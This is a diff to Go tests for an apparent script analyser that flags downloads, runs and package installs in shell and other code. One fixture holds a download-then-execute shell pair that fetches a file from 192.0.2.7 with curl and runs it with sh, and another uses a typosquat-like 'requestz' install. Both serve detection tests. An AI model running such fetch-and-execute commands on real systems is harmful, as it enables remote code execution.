@@ -20,8 +20,10 @@ func FuzzCode(f *testing.F) {
 			return
 		}
 		for _, language := range []string{shellCode, pythonCode, jsCode, psCode, otherCode} {
-			r := &reader{doc: &analysis.Document{File: &analysis.File{Path: "a"}, Source: []byte(text)}, Reading: &Reading{}, on: InScript}
+			r := newReader(&analysis.Document{File: &analysis.File{Path: "a"}, Source: []byte(text)})
+			r.on = InScript
 			r.readCode(language, []byte(text), 0)
+			r.finish()
 			for _, a := range r.Reading.Acts {
 				if a.At.Start < 0 || a.At.End < a.At.Start || a.At.End > len(text) {
 					t.Errorf("%s: act %d at %v, of %d bytes", language, a.Kind, a.At, len(text))
@@ -42,7 +44,7 @@ func TestEmptyCommand(t *testing.T) {
 func TestUncalledFunctions(t *testing.T) {
 	for range 20 {
 		runs := 0
-		for _, a := range CommandsIn("get() { curl -o /tmp/x http://192.0.2.7/a; }\nrun() { sh /tmp/x; }\n") {
+		for _, a := range CommandsIn("get() { curl -o /tmp/x http://192.0.2.7/a; }\nrun() { sh /tmp/x; }\n").Acts {
 			if a.Kind == Runs {
 				runs++
 			}
@@ -58,7 +60,7 @@ func TestPackages(t *testing.T) {
 		"pip install requestz": "requestz", `pip install -e "python[all]"`: "", "pip install -r requirements.txt": "", "uv pip install 'a-b[c]>=1'": "a-b",
 	} {
 		got := ""
-		for _, a := range CommandsIn(text) {
+		for _, a := range CommandsIn(text).Acts {
 			if a.Kind == Installs {
 				got = a.To
 			}
